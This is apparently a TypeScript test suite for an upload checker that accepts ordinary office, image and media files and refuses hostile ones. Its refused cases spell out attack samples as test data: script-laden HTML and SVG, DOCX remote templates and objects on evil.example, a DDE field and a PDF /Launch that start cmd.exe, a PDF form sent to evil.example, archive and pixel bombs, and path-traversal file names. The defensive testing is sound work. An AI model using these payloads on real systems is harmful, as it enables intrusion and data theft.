import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import sharp from 'sharp';
import { AppError, checkFile, type CheckedFile } from '../../../../src/plugins/platform/server/public';
import { SIGNATURE, lyingZip, mp3, mp4, odf, ooxml, packedObjects, pdf, photograph, picture, pixelBomb, pngWithSize, program, relationship, sharingZip, zipOf } from '../../../support/made-files';

const DAY = '2025-02-20';

const check = async (name: string, bytes: Buffer | string, declaredMime: string | null = null, day = DAY): Promise<CheckedFile> => {
  const folder = await mkdtemp(path.join(tmpdir(), 'made-'));
  try {
    const file = path.join(folder, 'file');
    await writeFile(file, bytes);
    return await checkFile({ path: file, name, declaredMime }, day);
  } finally {
    await rm(folder, { recursive: true });
  }
};

const refused = (code: string, reason: RegExp) => (error: unknown): boolean => {
  assert.ok(error instanceof AppError, String(error));
  assert.equal(error.code, code);
  assert.match(error.message, reason);
  return true;
};

const HTML = '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>';

for (const [name, bytes, mime] of [
  ['Quyết định 12.pdf', () => pdf(), 'application/pdf'],
  ['bao-cao.docx', () => ooxml('docx'), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  ['so-lieu.xlsx', () => ooxml('xlsx'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ['trinh-chieu.pptx', () => ooxml('pptx'), 'application/vnd.openxmlformats-officedocument.presentationml.presentation'],
  ['van-ban.odt', () => odf('text'), 'application/vnd.oasis.opendocument.text'],
  ['bang.ods', () => odf('spreadsheet'), 'application/vnd.oasis.opendocument.spreadsheet'],
  ['hop.odp', () => odf('presentation'), 'application/vnd.oasis.opendocument.presentation'],
  ['ghi-chu.txt', () => Buffer.from('Nhiệt độ 20 < 25 °C, tăng >3 lần\n'), 'text/plain'],
  ['dan-so.csv', () => Buffer.from('\uFEFFmã;tên;số hộ\n001;Bạch Thông;8000\n'), 'text/csv'],
  ['mau.csv', () => Buffer.from('BM25,MZ,ID3\n1,2,3\n'), 'text/csv'],
  ['anh.png', () => picture().png().toBuffer(), 'image/png'],
  ['anh.JPG', () => picture().jpeg().toBuffer(), 'image/jpeg'],
  ['anh.gif', () => picture(60, 40).gif().toBuffer(), 'image/gif'],
  ['quet.tiff', () => picture().tiff().toBuffer(), 'image/tiff'],
  ['lien-ket.docx', () => ooxml('docx', [relationship('word/_rels/document.xml.rels', 'hyperlink', 'https://backan.gov.vn/'), relationship('word/_rels/header1.xml.rels', 'hyperlink', 'phu-luc.docx')]), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  ['bieu-do.docx', () => ooxml('docx', [{ name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', text: ooxml('xlsx') }]), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  ['goi.pdf', () => pdf({ objects: packedObjects('7 0 << /S /URI /URI (https://backan.gov.vn) >>') }), 'application/pdf'],
  ['bai-noi.mp3', () => mp3(), 'audio/mpeg'],
  ['phim.mp4', () => mp4(), 'video/mp4'],
] as const) {
  test(`PT-5: a whole ${name} is accepted as ${mime}`, async () => {
    const file = await check(name, await bytes(), mime);
    assert.equal(file.mime, mime);
    assert.match(file.sha256, /^[0-9a-f]{64}$/);
  });
}

for (const [title, name, bytes, declared] of [
  ['HTML named .pdf', 'don.pdf', () => Buffer.from(HTML), 'application/pdf'],
  ['HTML named .jpg', 'anh.jpg', () => Buffer.from(HTML), 'image/jpeg'],
  ['HTML named .csv', 'bang.csv', () => Buffer.from(HTML), 'text/csv'],
  ['a script inside a .csv', 'bang.csv', () => Buffer.from('a,b\n"<script>alert(1)</script>",2\n'), 'text/csv'],
  ['HTML named .html', 'trang.html', () => Buffer.from(HTML), 'text/html'],
  ['SVG named .png', 'hinh.png', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'image/png'],
  ['SVG named .svg', 'hinh.svg', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/svg+xml'],
  ['SVG named .txt', 'hinh.txt', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'text/plain'],
  ['XML', 'du-lieu.xml', () => Buffer.from('<?xml version="1.0"?><a/>'), 'application/xml'],
  ['JavaScript', 'ma.js', () => Buffer.from('alert(1)'), 'text/javascript'],
  ['a program named .png', 'anh.png', () => program(), 'image/png'],
  ['a program', 'cai-dat.exe', () => program(), 'application/octet-stream'],
  ['a plain archive named .docx', 'bao-cao.docx', () => zipOf([{ name: 'a.txt', text: 'a' }]), null],
  ['an archive', 'goi.zip', () => zipOf([{ name: 'a.txt', text: 'a' }]), 'application/zip'],
  ['a DOCM named .docx', 'bao-cao.docx', () => ooxml('docm'), null],
  ['a DOCX with a macro part', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/vbaProject.bin', text: 'x' }]), null],
  ['an XLSX named .docx', 'bao-cao.docx', () => ooxml('xlsx'), null],
  ['a spreadsheet named .odt', 'bao-cao.odt', () => odf('spreadsheet'), null],
  ['an ODT with a Basic macro', 'bao-cao.odt', () => odf('text', [{ name: 'Basic/Standard/Module1.xml', text: 'x' }]), null],
  ['a program with a DOCX at its tail', 'bao-cao.docx', () => Buffer.concat([program(), ooxml('docx')]), null],
  ['a DOCX with bytes behind it', 'bao-cao.docx', () => Buffer.concat([ooxml('docx'), Buffer.from(HTML)]), null],
  ['a DOCX whose type of a macro is written with escapes', 'bao-cao.docx', () => ooxml('docx', [], '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>'), null],
  ['a DOCX with a template from elsewhere', 'bao-cao.docx', () => ooxml('docx', [relationship('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://evil.example/a.dotm')]), null],
  ['a DOCX with a picture from elsewhere', 'bao-cao.docx', () => ooxml('docx', [relationship('word/_rels/document.xml.rels', 'image', 'https://evil.example/a.png')]), null],
  ['a DOCX with an object from elsewhere', 'bao-cao.docx', () => ooxml('docx', [relationship('word/_rels/document.xml.rels', 'oleObject', '\\\\evil.example\\a.doc')]), null],
  ['a DOCX whose outside is written with escapes', 'bao-cao.docx', () => ooxml('docx', [relationship('word/_rels/a.xml.rels', 'frame', 'https://evil.example/', '&#69;xternal')]), null],
  ['a DOCX with a link to a share', 'bao-cao.docx', () => ooxml('docx', [relationship('word/_rels/document.xml.rels', 'hyperlink', 'file://evil.example/a')]), null],
  ['a DOCX with an embedded object', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/embeddings/oleObject1.bin', text: 'x' }]), null],
  ['a DOCX with a program inside', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/embeddings/a.exe', text: 'x' }]), null],
  ['a DOCX with an archive inside', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/media/a.zip', text: zipOf([{ name: 'a', text: 'a' }]) }]), null],
  ['a DOCX with a table inside that has a macro', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/embeddings/t.xlsx', text: ooxml('xlsx', [{ name: 'xl/vbaProject.bin', text: 'x' }]) }]), null],
  ['a DOCX with a document inside a table inside', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/embeddings/t.xlsx', text: ooxml('xlsx', [{ name: 'xl/embeddings/d.docx', text: ooxml('docx') }]) }]), null],
  ['a DOCX with a field that starts programs', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/header1.xml', text: '<w:hdr><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:hdr>' }]), null],
  ['a DOCX with entities of its own', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/theme.xml', text: `<?xml version="1.0"?><!--${'x'.repeat(9000)}--><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>` }]), null],
  ['a DOCX in UTF-16', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/a.xml', text: Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><a/>', 'utf16le') }]), null],
  ['an XLSX with links to other tables', 'bang.xlsx', () => ooxml('xlsx', [{ name: 'xl/externalLinks/externalLink1.xml', text: '<a/>' }]), null],
  ['an XLSX with a connection', 'bang.xlsx', () => ooxml('xlsx', [{ name: 'xl/connections.xml', text: '<a/>' }]), null],
  ['an ODT with a picture from elsewhere', 'bao-cao.odt', () => odf('text', [{ name: 'styles.xml', text: '<draw:image xlink:href="https://evil.example/a.png"/>' }]), null],
  ['an ODT with a listener', 'bao-cao.odt', () => odf('text', [{ name: 'styles.xml', text: '<script:event-listener xlink:href="vnd.sun.star.script:x"/>' }]), null],
  ['an archive bomb', 'bom.docx', () => ooxml('docx', [{ name: 'word/media/a.png', text: Buffer.alloc(30 * 1024 * 1024) }]), null],
  ['an archive bomb that lies about its size', 'bom.docx', () => lyingZip(), null],
  ['an archive whose entries share their bytes', 'bom.docx', () => sharingZip(), null],
  ['an archive of too many entries', 'bom.docx', () => ooxml('docx', Array.from({ length: 5001 }, (_, index) => ({ name: `word/${index}.txt`, text: '' }))), null],
  ['an old Office file named .docx', 'bao-cao.docx', () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), null],
  ['a GIF that is a script too', 'anh.gif', () => Buffer.from('GIF89a/*' + '\0'.repeat(20) + '*/=1;alert(1)//'), 'image/gif'],
  ['a JPEG cut off', 'anh.jpg', async () => (await picture().jpeg().toBuffer()).subarray(0, 20_000), 'image/jpeg'],
  ['a PNG without width', 'anh.png', () => pngWithSize(0, 10), 'image/png'],
  ['a pixel bomb', 'anh.png', () => pixelBomb(), 'image/png'],
  ['a PNG named .jpg', 'anh.jpg', () => picture().png().toBuffer(), 'image/jpeg'],
  ['a declared type that is another one', 'anh.png', () => picture().png().toBuffer(), 'application/pdf'],
  ['an empty file', 'rong.pdf', () => Buffer.alloc(0), 'application/pdf'],
  ['a file without an extension', 'tep', () => pdf(), 'application/pdf'],
  ['a PDF before 1.4', 'cu.pdf', () => pdf({ version: '1.3' }), 'application/pdf'],
  ['a PDF cut off', 'cut.pdf', () => pdf().subarray(0, 120), 'application/pdf'],
  ['a PDF with a password', 'khoa.pdf', () => pdf({ objects: '7 0 obj\n<< /Encrypt 9 0 R >>\nendobj' }), 'application/pdf'],
  ['a PDF with JavaScript', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj' }), 'application/pdf'],
  ['a PDF with an escaped name for JavaScript', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /S /J#61vaScript /J#53 (x) >>\nendobj' }), 'application/pdf'],
  ['a PDF with JavaScript in packed objects', 'ma.pdf', () => pdf({ objects: packedObjects('7 0 << /S /JavaScript /JS (x) >>') }), 'application/pdf'],
  ['a PDF that starts a program', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj' }), 'application/pdf'],
  ['a PDF that sends its form', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj' }), 'application/pdf'],
  ['a PDF that fetches data', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /S /ImportData /F (a.fdf) >>\nendobj' }), 'application/pdf'],
  ['a PDF with a form in XML', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /XFA 8 0 R >>\nendobj' }), 'application/pdf'],
  ['a PDF with a file inside', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /Names << /EmbeddedFiles 8 0 R >> >>\nendobj' }), 'application/pdf'],
  ['a PDF with a file inside, in packed objects', 'ma.pdf', () => pdf({ objects: packedObjects('7 0 << /Type /EmbeddedFile >>') }), 'application/pdf'],
  ['a PDF whose objects are packed twice', 'ma.pdf', () => pdf({ objects: packedObjects('7 0 << >>').replace('/Filter /FlateDecode', '/Filter [/ASCIIHexDecode /FlateDecode]') }), 'application/pdf'],
  ['a PDF whose packed objects are cut off', 'ma.pdf', () => pdf({ objects: packedObjects('7 0 << /S /GoTo >>'.repeat(50)).replace(/(stream\n[^]{12})[^]*\nendstream/, '$1\nendstream') }), 'application/pdf'],
  ['a PDF whose packed objects are a bomb', 'ma.pdf', () => pdf({ objects: packedObjects(' '.repeat(70 * 1024 * 1024)) }), 'application/pdf'],
  ['text that is not UTF-8', 'cu.txt', () => Buffer.from([0x42, 0xb9, 0xbf, 0x63, 0xff]), 'text/plain'],
  ['text with NUL', 'la.csv', () => Buffer.from('a,b\0,c'), 'text/csv'],
  ['rich text named .txt', 'la.txt', () => Buffer.from('{\\rtf1 xin chao}'), 'text/plain'],
  ['a shell script named .txt', 'la.txt', () => Buffer.from('#!/bin/sh\nrm -rf x\n'), 'text/plain'],
] as const) {
  test(`PT-5: ${title} is refused with the list of allowed formats`, async () => {
    await assert.rejects(async () => check(name, await bytes(), declared), refused('upload.format', /Các định dạng được nhận: Văn bản: PDF từ phiên bản 1\.4, Word/));
  });
}

for (const [title, name] of [
  ['a control character', 'a\u0007.pdf'],
  ['a change of reading direction', 'a\u202Efdp.pdf'],
  ['a path', '../../etc/a.pdf'],
  ['a Windows path', 'C:\\a.pdf'],
  ['a leading dot', '.htaccess.pdf'],
  ['too many letters', `${'a'.repeat(220)}.pdf`],
  ['nothing', ''],
] as const) {
  test(`a file name with ${title} is refused`, async () => {
    await assert.rejects(check(name, pdf()), refused('upload.name', /vì tên tệp/));
  });
}

test('a file name is stored in NFC with its extension in lower case', async () => {
  const file = await check('Quyết định.PDF'.normalize('NFD'), pdf());
  assert.equal(file.name, 'Quyết định.pdf'.normalize('NFC'));
});

test('PT-5: formats are dated: before the circular came into force nothing is allowed', async () => {
  await assert.rejects(check('a.pdf', pdf(), null, '2018-06-30'), refused('upload.format', /đuôi \.pdf/));
});

test('a file larger than its kind may be is refused with 413', async () => {
  const bytes = Buffer.alloc(21 * 1024 * 1024, 'a');
  await assert.rejects(check('to.csv', bytes), (error: AppError) => refused('upload.size', /20 MB/)(error) && error.status === 413);
});

test('a photograph loses place and device, stands upright, and keeps its format', async () => {
  const given = await photograph(600, 400);
  assert.ok((await sharp(given).metadata()).exif);
  const file = await check('anh.jpg', given, 'image/jpeg');
  const { exif, xmp, icc, orientation, width, height, format } = await sharp(file.bytes).metadata();
  assert.deepEqual({ exif, xmp, icc, orientation, width, height, format }, { exif: undefined, xmp: undefined, icc: undefined, orientation: undefined, width: 400, height: 600, format: 'jpeg' });
});

test('what hangs behind a picture is gone, and a PNG keeps every pixel', async () => {
  const clean = await picture(64, 48).png().toBuffer();
  const file = await check('anh.png', Buffer.concat([clean, Buffer.from(HTML)]), 'image/png');
  assert.ok(!file.bytes.includes('script'));
  assert.deepEqual(await sharp(file.bytes).raw().toBuffer(), await sharp(clean).raw().toBuffer());
});

test('the pages of a TIFF and the frames of a GIF stay', async () => {
  const frames = [await picture(20, 20).png().toBuffer(), await picture(20, 20).negate().png().toBuffer()];
  for (const [name, bytes] of [['a.tif', await sharp(frames, { join: { animated: true } }).tiff().toBuffer()], ['a.gif', await sharp(frames, { join: { animated: true } }).gif().toBuffer()]] as const) {
    assert.equal((await sharp((await check(name, bytes)).bytes, { pages: -1 }).metadata()).pages, 2, name);
  }
});

test('BI-5.3: the presence of a digital signature is found in PDF, DOCX and ODT', async () => {
  const signed = async (name: string, bytes: Buffer): Promise<boolean> => (await check(name, bytes)).signaturePresent;
  assert.equal(await signed('a.pdf', pdf({ objects: SIGNATURE })), true);
  assert.equal(await signed('a.pdf', pdf()), false);
  assert.equal(await signed('a.docx', ooxml('docx', [{ name: '_xmlsignatures/sig1.xml', text: '<a/>' }])), true);
  assert.equal(await signed('a.odt', odf('text', [{ name: 'META-INF/documentsignatures.xml', text: '<a/>' }])), true);
  assert.equal(await signed('a.odt', odf('text')), false);
});
